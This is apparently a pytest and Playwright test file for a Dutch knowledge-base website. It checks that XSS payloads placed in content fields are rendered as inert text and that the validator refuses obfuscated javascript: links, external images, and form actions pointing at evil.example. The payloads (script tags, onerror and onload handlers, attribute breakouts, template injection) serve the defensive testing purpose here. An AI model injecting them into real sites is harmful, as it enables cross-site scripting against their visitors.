"""Hostile content in a real browser: no dialog, no window flag, no request to another host.

A mini site is built from the fixture content plus a case whose every text field
carries an XSS payload that the validator *accepts* (it is shown as text), a body
with accepted-but-tricky Markdown, and payloads in a taxonomy label and a
municipality name. The content check must pass first, so these tests prove "inert",
not "refused". Chromium then opens every page where the payloads land, hovers over
the title and the links, opens the search with "/" and types payload words, follows
a search result (Material's search highlighting rewrites the page's text), and
checks after each step:

- every request (also the search worker's) goes to the test server on 127.0.0.1:
  no other host, and no ``data:`` or ``blob:`` URL for a script or worker;
- no dialog (alert, confirm, prompt) appeared and ``window.__kb_pwned`` is unset;
- the only ``#__config`` is Material's own ``<script type="application/json">``;
- nothing in the article mimics the theme (``id="__..."``, ``data-md-*``) or
  carries a ``title`` other than the permalinks' "Link naar dit kopje" (and the
  theme's own buttons, whose additions at run time are named below).

The built files are scanned as well, and payloads that the validator must refuse
(and that tests/test_hostile.py does not already cover) are checked at the end.
"""

from __future__ import annotations

import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from macros.editor_markdown import PERMALINK_TITLE
from macros.load import check_content

from ..conftest import ROOT, VALID_CONTENT, build, make_site
from ..htmlscan import parse
from ..test_hostile import problems_of, write_case
from .conftest import Watch, serving

FLAG = "__kb_pwned"
SET_FLAG = f"window.{FLAG}=1"
SCRIPT = f"<script>{SET_FLAG}</script>"
IMG = f'<img src=x onerror="{SET_FLAG}">'
SVG = f'"><svg onload={SET_FLAG}>'
MOUSE = f'" onmouseover="{SET_FLAG}" x="'
JINJA = "{{ 7*7 }}"
JAVASCRIPT = f"javascript:{SET_FLAG}"
ALERT = '<img src=x onerror="alert(1)">'  # a dialog, should the flag ever be missed
PAYLOADS = [SCRIPT, IMG, SVG, MOUSE, JINJA, JAVASCRIPT, ALERT]

CASE_ID = "vijandig"
TITLE = f"{SCRIPT} {JINJA}"
SUMMARY = " ".join(PAYLOADS)
OWNER = IMG
SOURCE_TITLE = f"{SVG} {SCRIPT}"
TAXONOMY_LABEL = f"Domein <img src=x onerror={SET_FLAG}> <script>alert(2)</script>"
MUNICIPALITY = f"Voorbeeldstad {SCRIPT}"
# Markdown that the closed editor language accepts, but that comes close to its edges:
# HTML and attribute lists inside code, headings named after theme ids, a
# protocol-relative link, a link title that tries to break out of its attribute, and a
# javascript: "autolink" that Markdown does not make into a link. A "word" near the line
# limit made of a repeated word, which the search index's compound splitter must not chew on,
# and tildes, the splitter's own mark.
BODY = f"""## Wat is er gedaan

{"data" * 950} en ~woning~inbraken~.

Code: `{SCRIPT}` en `{{: #__config }}` en `<img src=x onerror={SET_FLAG}>` en `{JINJA}`.

    {SCRIPT}
    <p {{: #__config }}>{IMG}</p>

## __config

Een [gewone externe link](//andere.example/p) en een [link met titel](https://example.org "titel' onmouseover='{SET_FLAG}").

### __search

Tekst met {JINJA} en {{% raw %}} en {JAVASCRIPT} als tekst, en <{JAVASCRIPT}>.
"""

PAGES = {
    "praktijkvoorbeeld": f"praktijkvoorbeelden/{CASE_ID}/",
    # The search marks these words in the text of a page opened from a result (zoeken.js).
    "praktijkvoorbeeld-gemarkeerd": f"praktijkvoorbeelden/{CASE_ID}/?zoek=onerror&zoek=script&zoek=javascript&zoek=onmouseover",
    "overzicht": "praktijkvoorbeelden/",
    # filters.js draws the cards from the search index, and puts the original list back.
    "overzicht-gefilterd": "praktijkvoorbeelden/?domein=sociaal",
    "facet": "praktijkvoorbeelden/domein/",
    "facetwaarde": "praktijkvoorbeelden/domein/sociaal/",
    "gemeente": "gemeenten/voorbeeldstad/",
    "gemeenten": "gemeenten/",
    "home": "",
}
# Words that find the hostile case.
SEARCH_WORDS = ["onerror", "javascript", "onmouseover"]

# What Material's own JavaScript adds inside the article at run time: a copy button with
# a title and data-md-type="copy" and an id "__code_<x>" on each code block
# (content.code.copy), and <mark data-md-highlight> around words searched for
# (search.highlight). The served HTML, before any script, has none of these (checked below).
COPY_TITLE = "Kopiëren naar klembord"
EDIT_TITLE = "Wijzig deze pagina"


def write_hostile_content(target: Path) -> Path:
    shutil.copytree(VALID_CONTENT, target)
    meta = {
        "id": CASE_ID,
        "titel": TITLE,
        "samenvatting": SUMMARY,
        # Separate lists: yaml.safe_dump would write anchors for a shared one.
        "organisaties": list(PAYLOADS),
        "partners": list(PAYLOADS),
        "gemeenten": ["voorbeeldstad"],
        "domein": "sociaal",
        "typering": {"domein": {"rapport": "5.1.1"}},
        "trefwoorden": list(PAYLOADS),
        "eigenaar": OWNER,
        "bron": {"rapport": ["5.1.1"], "links": [{"titel": SOURCE_TITLE, "url": "https://example.org/"}]},
        "toegevoegd": "2026-01-01",
        "bijgewerkt": "2026-01-01",
    }
    assert len(TITLE) < 90  # the validator's limit for a title
    (target / "praktijkvoorbeelden" / f"{CASE_ID}.md").write_text(
        "---\n" + yaml.safe_dump(meta, allow_unicode=True) + "---\n\n" + BODY, encoding="utf-8"
    )
    taxonomy = target / "taxonomie.yaml"
    text = taxonomy.read_text(encoding="utf-8")
    assert "  label: Domein\n" in text
    label = yaml.safe_dump(TAXONOMY_LABEL, width=1000).splitlines()[0]
    taxonomy.write_text(text.replace("  label: Domein\n", f"  label: {label}\n", 1), encoding="utf-8")
    municipalities = target / "gemeenten.yaml"
    text = municipalities.read_text(encoding="utf-8")
    assert "naam: Voorbeeldstad\n" in text
    municipalities.write_text(text.replace("naam: Voorbeeldstad\n", f"naam: '{MUNICIPALITY}'\n", 1), encoding="utf-8")
    return target


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("vijandig")
    content = write_hostile_content(root / "inhoud")
    kennisbank, problems = check_content(content)
    assert kennisbank is not None and problems == [], "\n".join(map(str, problems))
    site = make_site(root / "project", content)
    # The fixture docs have no assets; the site's own stylesheet and filter script belong on every page.
    shutil.copytree(ROOT / "docs" / "assets", site / "docs" / "assets")
    build(site)
    return site / "site"


@pytest.fixture(scope="module")
def server(hostile_site):
    """The hostile site on 127.0.0.1 (overrides the session server of the real site)."""
    with serving(hostile_site) as address:
        yield address


class Record:
    """Everything a page did that could betray a payload: requests, workers, dialogs, errors."""

    def __init__(self, origin: str):
        self.origin = origin
        self.watch = Watch(origin)  # the shared rule for other hosts
        self.requests: list[str] = []  # "resource type url"
        self.workers: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []

    def request(self, request) -> None:
        self.requests.append(f"{request.resource_type} {request.url}")
        self.watch.request(request)

    def response(self, response) -> None:
        if response.status >= 400:
            self.errors.append(f"{response.status} {response.url}")

    def dialog(self, dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def elsewhere(self) -> list[str]:
        """Requests that did not go to the test server: other hosts, but also data:, blob: and friends."""
        return [entry for entry in self.requests if not entry.split(" ", 1)[1].startswith(self.origin)]

    def assert_clean(self) -> None:
        assert self.dialogs == [], f"dialoogvensters: {self.dialogs}"
        assert self.watch.foreign == [], f"verzoeken naar andere hosts: {self.watch.foreign}"
        assert self.elsewhere() == [], f"verzoeken buiten 127.0.0.1: {self.elsewhere()}"
        assert all(w.startswith(self.origin) for w in self.workers), f"workers: {self.workers}"
        assert self.errors == [], f"fouten: {self.errors}"


@pytest.fixture
def visit(browser, server):
    """Open a page with every listener in place *before* navigation; afterwards all must be clean."""
    contexts, records = [], []

    def opener(path: str):
        record = Record(server)
        records.append(record)
        context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="nl-NL")
        contexts.append(context)
        # Requests elsewhere are recorded, then refused: nothing leaves the machine.
        context.route(lambda url: not url.startswith(server), lambda route: route.abort())
        context.on("request", record.request)
        context.on("response", record.response)
        page = context.new_page()
        page.on("dialog", record.dialog)
        page.on("worker", lambda worker: record.workers.append(worker.url))
        page.on("console", lambda message: message.type == "error" and record.errors.append(message.text))
        page.on("pageerror", lambda error: record.errors.append(str(error)))
        page.goto(server + path)
        page.wait_for_load_state("networkidle")
        return page, record

    yield opener
    for context in contexts:
        context.close()
    for record in records:
        record.assert_clean()


# Run in the page: what in the live document could only come from a payload. The page's
# own article is article.md-content__inner; search results are <article>s too.
LIVE_CHECK = """() => {
  const out = {};
  const main = document.querySelector('article.md-content__inner');
  out.article = !!main;
  const configs = [...document.querySelectorAll('#__config')];
  out.configs = configs.map(e => ({tag: e.tagName, type: e.getAttribute('type'), inArticle: !!e.closest('article'), first: document.getElementById('__config') === e}));
  try { out.configSearch = new URL(JSON.parse(configs[0].textContent).search, location.href).origin === location.origin; }
  catch (error) { out.configSearch = String(error); }
  const inside = main ? [...main.querySelectorAll('*')] : [];
  const copyButton = e => e.tagName === 'BUTTON' && e.classList.contains('md-code__button');
  out.ids = inside.filter(e => e.id.startsWith('__') && !(e.tagName === 'PRE' && e.id.startsWith('__code_')))
    .map(e => e.tagName + '#' + e.id);
  out.dataMd = inside.flatMap(e => [...e.attributes].filter(a => a.name.startsWith('data-md-'))
    .filter(a => !(copyButton(e) && a.name === 'data-md-type' && a.value === 'copy'))
    .filter(a => !(e.tagName === 'MARK' && a.name === 'data-md-highlight' && a.value === '' && e.attributes.length === 1)).map(a => e.tagName + ' ' + a.name + '=' + a.value));
  out.titles = inside.filter(e => e.hasAttribute('title')).map(e => ({tag: e.tagName, cls: e.className, title: e.getAttribute('title')}));
  const all = [...document.querySelectorAll('*')];
  out.handlers = all.flatMap(e => [...e.attributes].filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name + '=' + a.value));
  out.jsLinks = all.filter(e => ['href', 'src', 'action', 'formaction'].some(n => /^\\s*javascript:/i.test(e.getAttribute(n) || ''))).map(e => e.outerHTML.slice(0, 200));
  out.frames = all.filter(e => ['IFRAME', 'FRAME', 'OBJECT', 'EMBED'].includes(e.tagName)).map(e => e.outerHTML.slice(0, 200));
  out.forms = inside.filter(e => e.tagName === 'FORM' && e.id !== 'kb-filter').map(e => e.outerHTML.slice(0, 200));
  out.imgX = all.filter(e => e.tagName === 'IMG' && e.getAttribute('src') === 'x').map(e => e.outerHTML);
  out.scripts = [...document.scripts].filter(s => /__kb_pwned|alert\\(|7\\*7/.test(s.textContent || '') || (s.src && new URL(s.src).origin !== location.origin)).map(s => s.outerHTML.slice(0, 200));
  return out;
}"""


def permalink_title(element: dict) -> bool:
    return element["tag"] == "A" and element["cls"] == "headerlink" and element["title"] == PERMALINK_TITLE


def theme_title(element: dict) -> bool:
    """Titles of the theme's own buttons in the article: edit this page, copy this code."""
    classes = element["cls"].split()
    return (element["tag"] == "A" and "md-content__button" in classes and element["title"] == EDIT_TITLE) or (
        element["tag"] == "BUTTON" and "md-code__button" in classes and element["title"] == COPY_TITLE
    )


def assert_inert(page, record: Record, moment: str) -> None:
    assert page.evaluate(f"() => typeof window.{FLAG}") == "undefined", f"window.{FLAG} is gezet ({moment})"
    assert record.dialogs == [], f"dialoogvenster ({moment}): {record.dialogs}"
    assert record.elsewhere() == [], f"verzoeken buiten 127.0.0.1 ({moment}): {record.elsewhere()}"
    found = page.evaluate(LIVE_CHECK)
    assert found["article"], f"geen article ({moment})"
    assert found["configs"] == [{"tag": "SCRIPT", "type": "application/json", "inArticle": False, "first": True}], (moment, found["configs"])
    assert found["configSearch"] is True, (moment, found["configSearch"])
    assert found["ids"] == [], (moment, found["ids"])
    assert found["dataMd"] == [], (moment, found["dataMd"])
    assert [t for t in found["titles"] if not permalink_title(t) and not theme_title(t)] == [], (moment, found["titles"])
    for key in ("handlers", "jsLinks", "frames", "forms", "imgX", "scripts"):
        assert found[key] == [], (moment, key, found[key])


def hover_everything(page) -> int:
    """Hover the page title and every visible link in the article, as a reader's mouse would."""
    targets = page.locator("article.md-content__inner h1, article.md-content__inner a")
    hovered = 0
    for index in range(targets.count()):
        target = targets.nth(index)
        if target.is_visible():
            target.hover(timeout=5000)
            hovered += 1
    page.mouse.move(0, 0)
    return hovered


def search_for(page, word: str) -> None:
    """Open the search with its keyboard shortcut and type key by key, as a reader does."""
    page.keyboard.press("Escape")
    page.mouse.click(1, 300)  # focus on the page, outside any input
    page.keyboard.press("/")
    box = page.locator("#kb-zoekvak")
    assert box.evaluate("e => e === document.activeElement"), "'/' opende de zoekfunctie niet"
    box.fill("")
    box.press_sequentially(word, delay=10)
    page.wait_for_function(
        "q => { const s = document.getElementById('kb-zoekstatus').textContent;"
        " return /resulta/i.test(s) && s.includes('‘' + q + '’') }",
        arg=word,
        timeout=10000,
    )


# ---------------------------------------------------------------- the content is accepted


def test_the_validator_accepts_the_hostile_content(tmp_path):
    kennisbank, problems = check_content(write_hostile_content(tmp_path / "inhoud"))
    assert kennisbank is not None and problems == [], "\n".join(map(str, problems))
    case = next(c for c in kennisbank.cases if c.id == CASE_ID)
    assert (case.titel, case.samenvatting, case.eigenaar) == (TITLE, SUMMARY, OWNER)
    assert list(case.organisaties) == list(case.partners) == list(case.trefwoorden) == PAYLOADS
    assert case.bron.links[0].titel == SOURCE_TITLE
    assert kennisbank.taxonomy["domein"].label == TAXONOMY_LABEL


# ---------------------------------------------------------------- in the browser


@pytest.mark.parametrize("name, path", PAGES.items(), ids=list(PAGES))
def test_hostile_page_is_inert_in_the_browser(visit, name, path):
    page, record = visit(path)
    assert_inert(page, record, "na het laden")

    if name == "overzicht-gefilterd":
        page.wait_for_function("() => [...document.querySelectorAll('.kb-filter__count')].every(c => c.textContent)")
        assert page.locator(f"#kb-cases a.kb-card__title[href$='/{CASE_ID}/']").inner_text() == TITLE
        assert_inert(page, record, "na het filteren")
        page.locator("#kb-filter button[type=reset]").click()
        page.wait_for_function("() => !location.search")
        assert_inert(page, record, "na het terugzetten van de lijst")
    if name == "praktijkvoorbeeld-gemarkeerd":
        page.wait_for_selector("article.md-content__inner mark")  # the highlighting ran

    assert hover_everything(page) > 0
    assert_inert(page, record, "na het zweven over titel en links")

    for word in SEARCH_WORDS:
        search_for(page, word)
        assert_inert(page, record, f"na het zoeken naar '{word}'")
        results = page.locator("#kb-zoekresultaten a.md-search-result__link")
        assert results.count() > 0
        for index in range(results.count()):
            if results.nth(index).is_visible():  # sections beyond the first are folded away
                results.nth(index).hover(timeout=5000)
        assert_inert(page, record, f"na het zweven over de zoekresultaten voor '{word}'")

    if name == "home":
        # The result shows the title as text; following it opens the case with highlighting.
        search_for(page, "onerror")
        result = page.locator(f"#kb-zoekresultaten a.md-search-result__link[href*='/{CASE_ID}/?zoek=']").first
        assert result.locator(".kb-search__title").inner_text() == TITLE
        result.click()
        page.wait_for_url(f"**/{CASE_ID}/?zoek=onerror")
        page.wait_for_selector("article.md-content__inner mark")
        assert_inert(page, record, "na het volgen van een zoekresultaat")


def test_the_case_page_shows_every_payload_as_text(visit):
    page, record = visit(PAGES["praktijkvoorbeeld"])
    assert page.locator("article.md-content__inner h1").inner_text() == TITLE
    assert page.title().startswith(TITLE)
    text = page.locator("article.md-content__inner").inner_text()
    for payload in (SUMMARY, OWNER, SOURCE_TITLE, MUNICIPALITY, TAXONOMY_LABEL, *PAYLOADS):
        assert payload in text, payload
    assert "49" not in text
    # The ordinary links of the body: one to another host, and one whose title was dropped.
    assert page.locator("article a[href='//andere.example/p']").get_attribute("rel") == "noopener"
    assert page.locator("article a[href='https://example.org']").get_attribute("title") is None
    # Headings named after theme ids keep their text, not the id.
    assert page.locator("article h2#config").inner_text().startswith("__config")
    assert page.locator("article h3#search").inner_text().startswith("__search")
    assert f"<{JAVASCRIPT}>" in text
    assert_inert(page, record, "op de pagina van het praktijkvoorbeeld")


def test_each_copy_button_copies_its_own_code_block(browser, server):
    """Regression: code blocks once shared an id, so every copy button copied the first block."""
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    try:
        page = context.new_page()
        page.goto(server + PAGES["praktijkvoorbeeld"])
        page.wait_for_load_state("networkidle")
        blocks = page.locator("article.md-content__inner pre")
        assert blocks.count() >= 2  # the editor's code block and the citation
        ids = blocks.evaluate_all("l => l.map(e => e.id)")
        assert len(set(ids)) == len(ids), ids
        citation = blocks.last
        citation.hover()
        citation.locator("button.md-code__button").click()
        copied = page.evaluate("() => navigator.clipboard.readText()")
        assert copied.strip() == citation.locator("code").inner_text().strip(), copied
    finally:
        context.close()


# ---------------------------------------------------------------- the built files


def test_no_active_markup_from_content_in_any_built_file(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) > 10
    for path in pages:
        raw = path.read_text(encoding="utf-8").lower()
        for fragment in ("<script>window", "<script>alert", "<img src=x", "<svg onload", "<p {: #__config"):
            assert fragment not in raw, (path, fragment)
        document = parse(path)
        for element in document.elements:
            assert not [a for a in element.attrs if a.startswith("on")], (path, element)
            assert element.tag not in {"iframe", "frame", "object", "embed"}, (path, element)
            for name in ("href", "src", "action", "formaction"):
                assert not (element.attrs.get(name) or "").strip().lower().startswith("javascript:"), (path, element)
            if element.tag == "script":
                assert FLAG not in element.text and "alert(" not in element.text and "7*7" not in element.text, (path, element.text[:200])
                assert element.attrs.get("src") is None or "assets/javascripts/" in element.attrs["src"], (path, element)
        configs = [e for e in document.elements if e.attrs.get("id") == "__config"]
        assert [(e.tag, e.attrs.get("type")) for e in configs] == [("script", "application/json")], path


class ArticleElements(HTMLParser):
    """Start tags inside <article>, as (tag, attributes): no tree needed, only the depth."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        if self.depth:
            self.found.append((tag, dict(attrs)))
        if tag == "article":
            self.depth += 1

    def handle_endtag(self, tag):
        if tag == "article" and self.depth:
            self.depth -= 1


def article_elements(path: Path) -> list[tuple[str, dict[str, str | None]]]:
    parser = ArticleElements()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser.found


@pytest.mark.parametrize("name", [name for name, path in PAGES.items() if "?" not in path])
def test_the_served_article_has_no_theme_ids_data_md_or_titles(hostile_site, name):
    """The HTML as served, before any script runs: the strict form of the live checks."""
    inside = article_elements(hostile_site / PAGES[name] / "index.html")
    assert inside
    assert [(tag, attrs) for tag, attrs in inside if (attrs.get("id") or "").startswith("__")] == []
    assert [(tag, attrs) for tag, attrs in inside if any(a.startswith("data-md-") for a in attrs)] == []
    titles = [{"tag": tag.upper(), "cls": attrs.get("class") or "", "title": attrs["title"]} for tag, attrs in inside if "title" in attrs]
    assert [t for t in titles if not permalink_title(t) and not theme_title(t)] == []


# ---------------------------------------------------------------- what the validator refuses

# Only what tests/test_hostile.py does not cover: it has the attribute list right after a
# code span, "<!--><form>" in a body, "/\\\\host" (two backslashes), "//host" and
# "https://host" images, and entity-encoded javascript: links.
ATTRIBUTES = "attributen tussen accolades"
COMMENT = "HTML-commentaar"
ELSEWHERE = "staat op een andere website"
JS_REFUSED = "adressen met 'javascript:' zijn niet toegestaan"


@pytest.mark.parametrize(
    "body, line, fragment",
    [
        ("Tekst.\n\n## Kop {: #__config }\n\nTekst.", 18, ATTRIBUTES),  # on a heading
        ("Alinea.\n{: #__config }", 17, ATTRIBUTES),  # on a paragraph, on its own line
        ("Alinea {#__config}", 16, ATTRIBUTES),  # the short form
        ("Alinea { : #__config }", 16, ATTRIBUTES),  # with a space after the brace
        ('Alinea {: data-md-component="search" }', 16, ATTRIBUTES),  # a theme component
        ("<!---><form action=\"https://evil.example\"><input name=p>", 16, COMMENT),
        ("Tekst <!--> <form action=\"https://evil.example\">", 16, COMMENT),
        ("![a](/\\evil.example/x.png)", 16, ELSEWHERE),  # one backslash: the browser reads //evil.example
        ("![a](https:/\\evil.example/x.png)", 16, ELSEWHERE),
        ("![a](<//evil.example/x.png>)", 16, ELSEWHERE),  # the angle-bracket form of a target
        (f"[klik](java&#9;script:{SET_FLAG})", None, JS_REFUSED),  # a tab, which browsers drop
        (f"[klik](JaVaScRiPt:{SET_FLAG})", 16, JS_REFUSED),
        (f"[klik](<javascript:{SET_FLAG}>)", 16, JS_REFUSED),
    ],
)
def test_validator_refuses_these_in_a_body(content, body, line: int | None, fragment):
    write_case(content, body=body)
    found = problems_of(content)
    assert [(p.path, p.field) for p in found] == [("content/praktijkvoorbeelden/aanval.md", "tekst")], found
    assert fragment in found[0].message, found[0]
    if line is not None:  # None: the message names the decoded address, which is not on any line as written
        assert found[0].line == line, found[0]


def test_validator_refuses_an_attribute_list_and_a_comment_in_markdown_fields_of_yaml(content):
    advices = content / "adviezen.yaml"
    advices.write_text(advices.read_text(encoding="utf-8").replace("tekst: Doe iets *verstandigs*.", "tekst: 'Doe iets {: #__config }'"), encoding="utf-8")
    chapters = content / "hoofdstukken.yaml"
    chapters.write_text(chapters.read_text(encoding="utf-8").replace("conclusie: Het begin.", "conclusie: '<!--><form action=\"https://evil.example\">'"), encoding="utf-8")
    found = {(p.path, p.line, p.field): p.message for p in problems_of(content)}
    assert ATTRIBUTES in found.pop(("content/adviezen.yaml", 3, "tekst"))
    assert COMMENT in found.pop(("content/hoofdstukken.yaml", 3, "conclusie"))
    assert found == {}
